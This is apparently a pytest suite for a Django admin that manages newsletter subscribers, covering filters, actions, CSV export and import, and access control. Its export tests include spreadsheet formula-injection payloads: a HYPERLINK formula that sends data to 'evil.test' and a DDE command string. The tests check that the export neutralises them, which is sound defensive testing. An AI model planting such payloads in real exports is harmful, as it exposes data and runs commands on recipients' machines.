"""Subscribers in the admin, through its real URLs, as a logged-in staff superuser."""

import csv
import io

import pytest
from django.contrib import admin
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from subscriptions.models import Subscriber, SuppressionEvent
from tests.conftest import read_outbox

pytestmark = pytest.mark.django_db

CHANGELIST = "admin:subscriptions_subscriber_changelist"


def make_subscriber(email: str, **fields) -> Subscriber:
    return Subscriber.objects.create(email=email, **fields)


def listed_emails(response) -> set[str]:
    return {subscriber.email for subscriber in response.context["cl"].result_list}


def run_action(client, action: str, subscribers, **extra):
    return client.post(
        reverse(CHANGELIST),
        {"action": action, "_selected_action": [s.pk for s in subscribers]},
        **extra,
    )


def test_search_by_email(admin_client):
    make_subscriber("ada@example.com")
    make_subscriber("grace@example.org")

    response = admin_client.get(reverse(CHANGELIST), {"q": "example.org"})

    assert listed_emails(response) == {"grace@example.org"}


def test_filters_by_status_frequency_and_send_hour(admin_client):
    make_subscriber("a@example.com", status=Subscriber.Status.ACTIVE, send_hour=7)
    make_subscriber("b@example.com", frequency=Subscriber.Frequency.WEEKLY, send_hour=18)
    make_subscriber("c@example.com", status=Subscriber.Status.BOUNCED, send_hour=7)
    url = reverse(CHANGELIST)

    assert listed_emails(admin_client.get(url, {"status__exact": "active"})) == {"a@example.com"}
    assert listed_emails(admin_client.get(url, {"frequency__exact": "weekly"})) == {"b@example.com"}
    assert listed_emails(admin_client.get(url, {"send_hour": "7"})) == {
        "a@example.com",
        "c@example.com",
    }
    assert b'href="?send_hour=18"' in admin_client.get(url).content


@pytest.mark.parametrize("hour", ["abc", "²", "24", "9" * 5000])
def test_a_send_hour_filter_that_is_no_hour_is_refused_not_an_error(admin_client, hour):
    make_subscriber("a@example.com", send_hour=7)

    response = admin_client.get(reverse(CHANGELIST), {"send_hour": hour})

    # Django's admin answers unusable filters with its "?e=1" page, the unfiltered list.
    assert response.status_code == 302
    assert response.url.endswith("?e=1")


def change_form(subscriber: Subscriber, **changes) -> dict:
    form = {
        "topics": subscriber.topics,
        "frequency": subscriber.frequency,
        "weekday": subscriber.weekday,
        "send_hour": subscriber.send_hour,
        "time_zone": subscriber.time_zone,
        "papers_per_digest": subscriber.papers_per_digest,
        "suppressions-TOTAL_FORMS": "0",
        "suppressions-INITIAL_FORMS": "0",
    }
    return {**form, **changes}


def test_topics_are_editable_and_consent_is_not(admin_client):
    subscriber = make_subscriber(
        "ada@example.com",
        topics="diffusion",
        status=Subscriber.Status.PENDING,
        consent_text="Email me papers.",
    )
    url = reverse("admin:subscriptions_subscriber_change", args=[subscriber.pk])

    response = admin_client.post(
        url,
        change_form(
            subscriber,
            topics="mixture of experts\n\nretrieval\n",
            status="active",
            consent_text="forged",
            email="eve@example.com",
        ),
    )

    assert response.status_code == 302
    subscriber.refresh_from_db()
    assert subscriber.topics == "mixture of experts\nretrieval"
    assert subscriber.status == Subscriber.Status.PENDING
    assert subscriber.consent_text == "Email me papers."
    assert subscriber.email == "ada@example.com"


def test_too_many_topics_are_refused(admin_client):
    subscriber = make_subscriber("ada@example.com", topics="diffusion")
    url = reverse("admin:subscriptions_subscriber_change", args=[subscriber.pk])
    topics = "\n".join(f"topic {n}" for n in range(Subscriber.MAX_TOPICS + 1))

    response = admin_client.post(url, change_form(subscriber, topics=topics))

    assert response.status_code == 200
    assert "Up to 20 topics" in response.content.decode()
    subscriber.refresh_from_db()
    assert subscriber.topics == "diffusion"


def test_change_page_shows_consent_and_suppression_history_read_only(admin_client):
    subscriber = make_subscriber(
        "ada@example.com", consent_text="Email me papers.", consent_ip="192.0.2.1"
    )
    SuppressionEvent.objects.create(
        subscriber=subscriber,
        kind=SuppressionEvent.Kind.HARD_BOUNCE,
        source=SuppressionEvent.Source.WEBHOOK,
        esp="postmark",
        detail="550 mailbox unavailable",
    )

    response = admin_client.get(
        reverse("admin:subscriptions_subscriber_change", args=[subscriber.pk])
    )

    page = response.content.decode()
    assert "Email me papers." in page
    assert "192.0.2.1" in page
    assert "550 mailbox unavailable" in page
    assert 'name="consent_text"' not in page
    assert 'name="suppressions-0-detail"' not in page


def test_resend_confirmation_emails_pending_subscribers_only(admin_client, outbox):
    pending = make_subscriber("pending@example.com", topics="diffusion")
    active = make_subscriber("active@example.com", status=Subscriber.Status.ACTIVE)

    response = run_action(admin_client, "resend_confirmation", [pending, active], follow=True)

    assert [message["To"] for message in read_outbox(outbox)] == ["pending@example.com"]
    page = response.content.decode()
    assert "1 subscriber sent a new confirmation email." in page
    assert "1 subscriber skipped: not waiting for confirmation." in page


def test_resend_confirmation_twice_within_the_hour_sends_once(admin_client, outbox):
    pending = make_subscriber("pending@example.com", topics="diffusion")

    run_action(admin_client, "resend_confirmation", [pending])
    response = run_action(admin_client, "resend_confirmation", [pending], follow=True)

    assert len(read_outbox(outbox)) == 1
    assert "skipped: one went out within the hour" in response.content.decode()


def test_suppress_stops_mail_and_records_the_editor(admin_client, admin_user):
    subscriber = make_subscriber("ada@example.com", status=Subscriber.Status.ACTIVE)

    run_action(admin_client, "suppress", [subscriber])

    subscriber.refresh_from_db()
    assert subscriber.status == Subscriber.Status.UNSUBSCRIBED
    [event] = subscriber.suppressions.all()
    assert event.kind == SuppressionEvent.Kind.EDITOR
    assert event.source == SuppressionEvent.Source.EDITOR
    assert admin_user.username in event.detail


def test_reactivate_lifts_a_suppression_but_not_a_pause(admin_client):
    bounced = make_subscriber(
        "bounced@example.com", status=Subscriber.Status.BOUNCED, confirmed_at=timezone.now()
    )
    paused = make_subscriber("paused@example.com", status=Subscriber.Status.PAUSED)

    run_action(admin_client, "reactivate", [bounced, paused])

    bounced.refresh_from_db()
    paused.refresh_from_db()
    assert bounced.status == Subscriber.Status.ACTIVE
    assert paused.status == Subscriber.Status.PAUSED


def test_export_selected_subscribers_as_csv(admin_client):
    ada = make_subscriber(
        "ada@example.com",
        topics="mixture of experts\nretrieval",
        frequency=Subscriber.Frequency.WEEKLY,
        weekday=Subscriber.Weekday.THURSDAY,
        send_hour=18,
        time_zone="Europe/Paris",
        papers_per_digest=5,
        status=Subscriber.Status.ACTIVE,
    )
    make_subscriber("grace@example.com", topics="compilers", status=Subscriber.Status.BOUNCED)
    make_subscriber("not-selected@example.com")
    grace = Subscriber.objects.get(email="grace@example.com")

    response = run_action(admin_client, "export_csv", [ada, grace])

    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows == [
        {
            "email": "ada@example.com",
            "topics": "mixture of experts;retrieval",
            "frequency": "weekly",
            "send_hour": "18",
            "timezone": "Europe/Paris",
            "weekday": "thursday",
            "papers_per_digest": "5",
            "status": "active",
        },
        {
            "email": "grace@example.com",
            "topics": "compilers",
            "frequency": "daily",
            "send_hour": "7",
            "timezone": "UTC",
            "weekday": "monday",
            "papers_per_digest": "10",
            "status": "bounced",
        },
    ]


FORMULA = '=HYPERLINK("http://evil.test/?x="&A1)'  # no comma: commas separate topics


@pytest.mark.parametrize(
    "topics, cell",
    [
        (FORMULA, "'" + FORMULA),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-survey\nllms", "'-survey;llms"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tindented", "indented"),  # topic lines are stripped when saved
        ("llms\n=1+1", "llms;=1+1"),  # a formula only starts a cell
    ],
)
def test_export_neutralizes_cells_a_spreadsheet_would_run(admin_client, topics, cell):
    reader = make_subscriber("ada@example.com", topics=topics, status=Subscriber.Status.ACTIVE)

    response = run_action(admin_client, "export_csv", [reader])

    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["topics"] == cell
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())


def test_export_neutralizes_an_address_that_starts_like_a_formula(admin_client):
    reader = make_subscriber("-ada@example.com", topics="llms", status=Subscriber.Status.ACTIVE)

    response = run_action(admin_client, "export_csv", [reader])

    [row] = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["email"] == "'-ada@example.com"


ROUND_TRIP_FIELDS = [
    "email",
    "topics",
    "frequency",
    "weekday",
    "send_hour",
    "time_zone",
    "papers_per_digest",
    "status",
]


def test_exported_csv_imports_back_with_import_subscribers(admin_client, tmp_path):
    ada = make_subscriber(
        "ada@example.com",
        topics=f"{FORMULA}\nmixture of experts\n-survey",
        frequency=Subscriber.Frequency.WEEKLY,
        weekday=Subscriber.Weekday.SUNDAY,
        send_hour=0,
        time_zone="America/New_York",
        papers_per_digest=3,
        status=Subscriber.Status.ACTIVE,
    )
    grace = make_subscriber(
        "-grace@xn--bcherei-n2a.de",
        topics="-survey\n@home robotics",
        status=Subscriber.Status.PAUSED,
        papers_per_digest=20,
    )
    exported = tmp_path / "subscribers.csv"
    exported.write_bytes(run_action(admin_client, "export_csv", [ada, grace]).content)
    expected = list(Subscriber.objects.order_by("pk").values(*ROUND_TRIP_FIELDS))
    Subscriber.objects.all().delete()

    call_command("import_subscribers", str(exported), stdout=io.StringIO())

    assert list(Subscriber.objects.order_by("pk").values(*ROUND_TRIP_FIELDS)) == expected


def test_admin_search_finds_an_address_typed_in_unicode(admin_client):
    make_subscriber("reader@xn--bcherei-n2a.de")
    make_subscriber("other@example.org")

    response = admin_client.get(reverse(CHANGELIST), {"q": "reader@Bücherei.de"})

    assert listed_emails(response) == {"reader@xn--bcherei-n2a.de"}


def test_subscriber_changelist_queries_are_bounded_for_500_rows(
    admin_client, django_assert_max_num_queries, monkeypatch
):
    monkeypatch.setattr(admin.site._registry[Subscriber], "list_per_page", 500)
    Subscriber.objects.bulk_create(
        Subscriber(email=f"reader{n}@example.com", topics="diffusion") for n in range(500)
    )

    with django_assert_max_num_queries(6):
        response = admin_client.get(reverse(CHANGELIST))

    assert len(response.context["cl"].result_list) == 500


def test_non_staff_users_get_nothing(client, django_user_model, outbox):
    user = django_user_model.objects.create_user("reader", password="x")
    client.force_login(user)
    subscriber = make_subscriber("ada@example.com")

    listing = client.get(reverse(CHANGELIST))
    export = run_action(client, "export_csv", [subscriber])
    suppress = run_action(client, "suppress", [subscriber])

    for response in (listing, export, suppress):
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))
    subscriber.refresh_from_db()
    assert subscriber.status == Subscriber.Status.PENDING
